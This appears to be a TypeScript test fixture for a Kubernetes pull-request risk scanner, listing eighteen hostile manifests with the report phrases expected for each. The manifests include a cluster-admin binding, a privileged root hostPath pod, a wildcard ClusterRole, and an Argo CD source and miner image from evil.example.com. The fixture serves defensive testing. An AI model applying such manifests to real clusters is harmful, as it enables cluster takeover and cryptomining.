import { type RiskKind, RISK_KINDS } from "../lib/diff/risks/risk-kinds.ts";
import { fileOf } from "../lib/render/layout.ts";
import type { Tree } from "../lib/render/tree.ts";
import { toYaml } from "../lib/render/yaml.ts";

/** An object that a pull request should not bring unseen. */
export interface HostileObject {
  readonly what: string;
  readonly risk: RiskKind;
  /** Words of the risk. */
  readonly says: string;
  readonly object: { readonly apiVersion: string; readonly kind: string; readonly metadata: Readonly<Record<string, unknown>> };
}

const RBAC = "rbac.authorization.k8s.io/v1";
const IMAGE = `us-central1-docker.pkg.dev/online-boutique-ci/microservices-demo/cartservice@sha256:${"0".repeat(64)}`;

const made = (apiVersion: string, kind: string, name: string, rest: object): HostileObject["object"] => ({
  apiVersion,
  kind,
  metadata: { name, namespace: "boutique" },
  ...rest,
});

const podSpec = (rest: object, image = IMAGE, container: object = {}): object => ({
  ...rest,
  containers: [{ name: "app", image, ...container }],
});

const workload = (kind: string, name: string, spec: object): HostileObject["object"] =>
  made("apps/v1", kind, name, {
    spec: { selector: { matchLabels: { app: name } }, template: { metadata: { labels: { app: name } }, spec } },
  });

/** Eighteen objects that a service could add by `manifests`, or that a person could commit by hand. */
export const HOSTILE_OBJECTS: readonly HostileObject[] = [
  {
    what: "a policy that allows everything",
    risk: "network",
    says: "everything",
    object: made("networking.k8s.io/v1", "NetworkPolicy", "open-all", {
      spec: { podSelector: {}, policyTypes: ["Ingress"], ingress: [{}] },
    }),
  },
  {
    what: "a binding to cluster-admin",
    risk: "access",
    says: "gives ClusterRole cluster-admin to ServiceAccount cartservice",
    object: made(RBAC, "ClusterRoleBinding", "root-binding", {
      roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "cluster-admin" },
      subjects: [{ kind: "ServiceAccount", name: "cartservice", namespace: "boutique" }],
    }),
  },
  {
    what: "a privileged pod with the disk of its node",
    risk: "privilege",
    says: "mounts hostPath /",
    object: made("v1", "Pod", "node-shell", {
      spec: podSpec({ volumes: [{ name: "disk", hostPath: { path: "/" } }] }, IMAGE, { securityContext: { privileged: true } }),
    }),
  },
  {
    what: "a route for every host",
    risk: "host",
    says: "*.boutique.example.com",
    object: made("gateway.networking.k8s.io/v1", "HTTPRoute", "every-host", {
      spec: { hostnames: ["*.boutique.example.com"], rules: [{ backendRefs: [{ name: "cartservice", port: 7070 }] }] },
    }),
  },
  {
    what: "an Application of another project",
    risk: "argocd",
    says: "belongs to the project default",
    object: made("argoproj.io/v1alpha1", "Application", "second-source", {
      spec: {
        project: "default",
        source: { repoURL: "https://evil.example.com/x.git", path: ".", targetRevision: "main" },
        destination: { name: "in-cluster", namespace: "kube-system" },
      },
    }),
  },
  {
    what: "a role of the cluster",
    risk: "access",
    says: "may * *.*",
    object: made(RBAC, "ClusterRole", "all-verbs", { rules: [{ apiGroups: ["*"], resources: ["*"], verbs: ["*"] }] }),
  },
  {
    what: "a webhook that sees every object",
    risk: "unknown",
    says: "ValidatingWebhookConfiguration",
    object: made("admissionregistration.k8s.io/v1", "ValidatingWebhookConfiguration", "see-all", { webhooks: [] }),
  },
  {
    what: "a definition of a kind",
    risk: "unknown",
    says: "CustomResourceDefinition",
    object: made("apiextensions.k8s.io/v1", "CustomResourceDefinition", "things.evil.example.com", { spec: {} }),
  },
  {
    what: "a secret in git",
    risk: "secret",
    says: "has a secret in git",
    object: made("v1", "Secret", "plain-text", { type: "Opaque", stringData: { password: "hunter2" } }),
  },
  {
    what: "a volume of the cluster",
    risk: "unknown",
    says: "PersistentVolume",
    object: made("v1", "PersistentVolume", "node-disk", { spec: { hostPath: { path: "/" } } }),
  },
  { what: "a namespace", risk: "unknown", says: "Namespace", object: made("v1", "Namespace", "shadow", {}) },
  {
    what: "a pod on every node, with its network",
    risk: "privilege",
    says: "its pods have hostNetwork",
    object: workload("DaemonSet", "every-node", podSpec({ hostNetwork: true })),
  },
  {
    what: "a name for another host",
    risk: "network",
    says: "is a ExternalName",
    object: made("v1", "Service", "elsewhere", { spec: { type: "ExternalName", externalName: "evil.example.com" } }),
  },
  {
    what: "a public address",
    risk: "network",
    says: "is a LoadBalancer",
    object: made("v1", "Service", "public-door", { spec: { type: "LoadBalancer", selector: { app: "x" }, ports: [{ port: 80 }] } }),
  },
  {
    what: "a role that may give itself more",
    risk: "access",
    says: "may escalate roles",
    object: made(RBAC, "Role", "climber", {
      rules: [{ apiGroups: ["rbac.authorization.k8s.io"], resources: ["roles"], verbs: ["escalate", "bind"] }],
    }),
  },
  {
    what: "a priority above all others",
    risk: "unknown",
    says: "PriorityClass",
    object: made("scheduling.k8s.io/v1", "PriorityClass", "first-of-all", { value: 1_000_000, globalDefault: true }),
  },
  {
    what: "a hook of Argo CD",
    risk: "argocd",
    says: "argocd.argoproj.io/hook=PreSync",
    object: {
      apiVersion: "v1",
      kind: "ConfigMap",
      metadata: { name: "before-all", namespace: "boutique", annotations: { "argocd.argoproj.io/hook": "PreSync" } },
    },
  },
  {
    what: "an image of another registry",
    risk: "image",
    says: "runs images of evil.example.com/miner",
    object: workload("Deployment", "stranger", podSpec({}, `evil.example.com/miner@sha256:${"1".repeat(64)}`)),
  },
];

/** Returns the files of the objects, if the service cartservice has them on staging. */
export const hostileTree = (): Tree =>
  new Map(
    HOSTILE_OBJECTS.map(({ object }) => [
      `staging/services/cartservice/${fileOf({ ...object, metadata: { name: String(object.metadata["name"]) } })}`,
      toYaml(object),
    ]),
  );

/** Returns the words that one line of a report must say: the title of the risk, the object, the phrase. */
export const riskWords = ({
  risk,
  says,
  object: { kind, metadata },
}: HostileObject): readonly [title: string, object: string, says: string] => [
  RISK_KINDS[risk].title,
  `${kind} ${String(metadata["name"])}`,
  says,
];
